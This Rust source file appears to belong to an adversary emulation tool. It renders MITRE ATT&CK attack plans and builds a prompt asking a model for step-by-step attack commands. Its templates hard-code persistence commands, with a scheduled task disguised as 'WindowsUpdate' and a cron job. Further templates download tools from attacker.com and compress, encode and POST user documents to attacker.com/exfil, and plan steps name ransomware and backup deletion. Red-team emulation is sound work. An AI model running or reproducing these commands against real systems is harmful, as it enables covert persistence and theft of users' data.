//! Deterministic templated generator

use std::fmt::Write as _;
use std::time::Duration;

use async_trait::async_trait;

use super::{CommandOptions, GenerationError, GeneratorConfig, PlanOptions, TextGenerator};
use crate::config::{defaults as config_defaults, Impact, Platform};
use crate::stix::Technique;

const INITIAL_ACCESS: &str = "initial-access";
const EXECUTION: &str = "execution";

/// Build the prompt a model backend would receive for a plan
pub fn build_plan_prompt(techniques: &[Technique], impact: Impact) -> String {
    let mut prompt =
        String::from("Generate an adversary emulation plan using the following MITRE ATT&CK techniques:\n");
    for technique in techniques {
        let _ = write!(prompt, "- {}: {}", technique.id, technique.name);
        if !technique.description.is_empty() {
            let _ = write!(prompt, " - {}", technique.description);
        }
        prompt.push('\n');
    }
    let _ = write!(
        prompt,
        "\nThe primary impact goal is: {}\n\nGenerate a step-by-step plan with specific commands where applicable.\n",
        impact
    );
    prompt
}

/// Final phase heading and its two steps
fn final_phase(impact: Impact) -> (&'static str, [&'static str; 2]) {
    match impact {
        Impact::DataExfiltration => (
            "Exfiltration",
            [
                "Compress and encrypt sensitive data",
                "Transfer data to attacker-controlled server",
            ],
        ),
        Impact::Ransomware => (
            "Impact",
            [
                "Execute ransomware payload",
                "Remove Volume Shadow Copies to prevent recovery",
            ],
        ),
        Impact::DataDestruction => (
            "Impact",
            [
                "Overwrite files in user and shared directories",
                "Delete backups and Volume Shadow Copies",
            ],
        ),
        Impact::ServiceDisruption => (
            "Impact",
            [
                "Stop business-critical services",
                "Disable recovery options to prolong the outage",
            ],
        ),
    }
}

fn windows_commands() -> Vec<String> {
    vec![
        "# Establish persistence\nSCHTASKS /CREATE /SC MINUTE /TN \"WindowsUpdate\" /TR \"powershell.exe -WindowStyle hidden -NonInteractive -ExecutionPolicy Bypass -File C:\\Windows\\Temp\\update.ps1\" /MO 30".to_string(),
        "# Download additional tools\npowershell.exe -Command \"(New-Object System.Net.WebClient).DownloadFile('http://attacker.com/tool.exe', 'C:\\Windows\\Temp\\svchost.exe')\"".to_string(),
        "# Exfiltrate data\npowershell.exe -Command \"Compress-Archive -Path C:\\Users\\Administrator\\Documents -DestinationPath C:\\Windows\\Temp\\backup.zip;certutil -encode C:\\Windows\\Temp\\backup.zip C:\\Windows\\Temp\\backup.b64;Invoke-WebRequest -Uri http://attacker.com/exfil -Method POST -Body (Get-Content C:\\Windows\\Temp\\backup.b64)\"".to_string(),
    ]
}

fn unix_commands() -> Vec<String> {
    vec![
        "# Establish persistence\necho \"*/30 * * * * /tmp/update.sh\" | crontab -".to_string(),
        "# Download additional tools\ncurl -s http://attacker.com/tool -o /tmp/tool && chmod +x /tmp/tool".to_string(),
        "# Exfiltrate data\ntar -czf /tmp/data.tar.gz /home/user/Documents && base64 /tmp/data.tar.gz > /tmp/data.b64 && curl -X POST -d @/tmp/data.b64 http://attacker.com/exfil".to_string(),
    ]
}

fn check_temperature(temperature: f64) -> Result<(), GenerationError> {
    if config_defaults::TEMPERATURE_RANGE.contains(&temperature) {
        Ok(())
    } else {
        Err(GenerationError::InvalidTemperature(temperature))
    }
}

/// Renders fixed templates; output depends only on the inputs
#[derive(Debug, Clone, Default)]
pub struct TemplateGenerator {
    config: GeneratorConfig,
}

impl TemplateGenerator {
    pub fn new(config: GeneratorConfig) -> Self {
        Self { config }
    }

    async fn simulate_latency(&self) {
        if self.config.latency_ms > 0 {
            tokio::time::sleep(Duration::from_millis(self.config.latency_ms)).await;
        }
    }

    fn render_plan(techniques: &[Technique], options: &PlanOptions) -> String {
        let mut plan = String::new();
        let _ = writeln!(plan, "# Attack Plan: {}", options.impact.as_str().to_uppercase());
        let _ = writeln!(
            plan,
            "\nGenerated with {} (temperature {:.1})",
            options.model, options.temperature
        );

        plan.push_str("\n## Techniques\n");
        if techniques.is_empty() {
            plan.push_str("- No techniques selected\n");
        }
        for technique in techniques {
            let _ = writeln!(plan, "- {}: {}", technique.id, technique.name);
        }

        plan.push_str("\n## Phase 1: Initial Access\n");
        match techniques.iter().find(|t| t.in_phase(INITIAL_ACCESS)) {
            Some(t) => {
                let _ = writeln!(plan, "- Use {} to gain entry", t.name);
            }
            None => plan.push_str("- Spear phishing with malicious attachment\n"),
        }

        plan.push_str("\n## Phase 2: Execution\n");
        match techniques.iter().find(|t| t.in_phase(EXECUTION)) {
            Some(t) => {
                let _ = writeln!(plan, "- Execute {}", t.name);
            }
            None => plan.push_str("- Run PowerShell script to establish persistence\n"),
        }

        let (heading, steps) = final_phase(options.impact);
        let _ = writeln!(plan, "\n## Phase 3: {}", heading);
        for step in steps {
            let _ = writeln!(plan, "- {}", step);
        }

        plan
    }
}

#[async_trait]
impl TextGenerator for TemplateGenerator {
    async fn generate_plan(
        &self,
        techniques: &[Technique],
        options: &PlanOptions,
    ) -> Result<String, GenerationError> {
        check_temperature(options.temperature)?;
        log::info!(
            "Generating attack plan using {} with temperature {}",
            options.model,
            options.temperature
        );
        log::debug!("Plan prompt:\n{}", build_plan_prompt(techniques, options.impact));

        self.simulate_latency().await;
        Ok(Self::render_plan(techniques, options))
    }

    async fn generate_commands(
        &self,
        plan: &str,
        options: &CommandOptions,
    ) -> Result<Vec<String>, GenerationError> {
        if let Some(t) = options.temperature {
            check_temperature(t)?;
        }
        log::debug!(
            "Generating {} commands from a {}-byte plan",
            options.platform,
            plan.len()
        );

        self.simulate_latency().await;
        Ok(match options.platform {
            Platform::Windows => windows_commands(),
            Platform::Linux | Platform::Macos => unix_commands(),
        })
    }
}
